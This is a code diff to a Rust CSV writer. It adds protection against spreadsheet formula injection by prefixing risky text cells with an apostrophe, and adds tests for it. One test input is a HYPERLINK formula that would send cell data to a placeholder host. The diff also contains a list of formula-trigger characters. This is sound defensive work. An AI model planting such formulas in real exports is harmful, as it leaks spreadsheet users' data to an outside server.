@@ -9,6 +9,14 @@
 //! a table as large as a 1.6 GB input is never whole in memory when it is
 //! written to a file. A property test below checks the bytes against the
 //! `csv` crate.
+//!
+//! Formula injection (CSV injection, OWASP): every text cell comes from an
+//! export anyone on the internet can write into (a cookie, a referrer, a
+//! utm value), and spreadsheets run a cell that starts with `=`, `+`, `-`,
+//! `@`, a tab or a carriage return as a formula. Such a text cell is written
+//! with a leading `'`, which Excel, LibreOffice and Google Sheets read as
+//! "this is text"; [`formula_start`] says which cells. Numbers, amounts and
+//! timestamps are written by their own methods and never touched.
 
 use std::io::Write;
 
@@ -43,15 +51,20 @@ impl<'a> CsvOut<'a> {
         self.fields += 1;
     }
 
-    /// A text field, quoted when it needs to be.
+    /// A text field, quoted when it needs to be, with a `'` in front when a
+    /// spreadsheet would read it as a formula.
     pub fn text(&mut self, s: &str) {
         self.next_field();
         let bytes = s.as_bytes();
+        let guard = formula_start(s);
         if bytes
             .iter()
             .any(|&b| matches!(b, b',' | b'"' | b'\r' | b'\n'))
         {
             self.buf.push(b'"');
+            if guard {
+                self.buf.push(b'\'');
+            }
             for part in bytes.split_inclusive(|&b| b == b'"') {
                 self.buf.extend_from_slice(part);
                 if part.last() == Some(&b'"') {
@@ -60,6 +73,9 @@ impl<'a> CsvOut<'a> {
             }
             self.buf.push(b'"');
         } else {
+            if guard {
+                self.buf.push(b'\'');
+            }
             self.buf.extend_from_slice(bytes);
         }
     }
@@ -136,6 +152,19 @@ impl<'a> CsvOut<'a> {
     }
 }
 
+/// Whether a spreadsheet would run a cell holding `s` as a formula: its
+/// first character, or its first after leading spaces, is one that starts
+/// a formula (`=`, `+`, `-`, `@`, their full-width forms, which some
+/// spreadsheets fold to ASCII), or it starts with a tab, CR or LF.
+pub fn formula_start(s: &str) -> bool {
+    const TRIGGERS: [char; 8] = ['=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];
+    if s.starts_with(['\t', '\r', '\n']) {
+        return true;
+    }
+    s.trim_start_matches([' ', '\u{A0}', '\u{3000}'])
+        .starts_with(TRIGGERS)
+}
+
 #[cfg(test)]
 mod tests {
     use super::CsvOut;
@@ -164,13 +193,58 @@ mod tests {
         w.into_inner().unwrap()
     }
 
+    /// The cell as a spreadsheet gets it: a `'` in front of a formula.
+    fn guarded(cell: &str) -> String {
+        if super::formula_start(cell) {
+            format!("'{cell}")
+        } else {
+            cell.to_string()
+        }
+    }
+
+    /// Whether a cell, read back, starts a formula: an independent list of
+    /// OWASP's characters (and the full-width forms), checked on the first
+    /// character and on the first after leading spaces.
+    fn runs_as_formula(cell: &str) -> bool {
+        let first = |t: &str| t.chars().next();
+        matches!(first(cell), Some('\t' | '\r' | '\n'))
+            || matches!(
+                first(cell.trim_start_matches([' ', '\u{a0}', '\u{3000}'])),
+                Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠')
+            )
+    }
+
     proptest! {
         #[test]
         fn text_fields_match_the_csv_crate(
             records in prop::collection::vec(
-                prop::collection::vec("[a-c,\"\r\n é#']{0,6}", 1..5), 0..6)
+                prop::collection::vec("[a-c,\"\r\n é#'=+@-]{0,6}", 1..5), 0..6)
         ) {
-            prop_assert_eq!(by_csv_out(&records), by_csv_crate(&records));
+            let guarded: Vec<Vec<String>> = records
+                .iter()
+                .map(|r| r.iter().map(|c| guarded(c)).collect())
+                .collect();
+            prop_assert_eq!(by_csv_out(&records), by_csv_crate(&guarded));
+        }
+
+        #[test]
+        fn no_text_cell_written_can_start_a_formula(
+            cells in prop::collection::vec(any::<String>(), 1..6),
+            lead in "[=+@\t\r\n -]{0,3}",
+        ) {
+            let cells: Vec<String> = cells.into_iter().map(|c| format!("{lead}{c}")).collect();
+            let bytes = by_csv_out(std::slice::from_ref(&cells));
+            let mut rdr = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_reader(bytes.as_slice());
+            let record = rdr.records().next().unwrap().unwrap();
+            prop_assert_eq!(record.len(), cells.len());
+            for (read, written) in record.iter().zip(&cells) {
+                prop_assert!(!runs_as_formula(read), "{:?} runs as a formula", read);
+                // Nothing else changes: the text is all there after the guard.
+                let want = if runs_as_formula(written) { format!("'{written}") } else { written.clone() };
+                prop_assert_eq!(read, want.as_str());
+            }
         }
 
         #[test]
@@ -189,6 +263,22 @@ mod tests {
             );
             prop_assert_eq!(String::from_utf8(bytes).unwrap(), want);
         }
+    }
+
+    #[test]
+    fn hostile_cells_are_written_as_text() {
+        let records = vec![vec![
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")".to_string(),
+            "=1+2".into(),
+            "@SUM(1)".into(),
+            "-3".into(),
+            "\tcmd".into(),
+            "a=b".into(),
+        ]];
+        assert_eq!(
+            String::from_utf8(by_csv_out(&records)).unwrap(),
+            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",'=1+2,'@SUM(1),'-3,'\tcmd,a=b\n"
+        );
     }
 
     #[test]
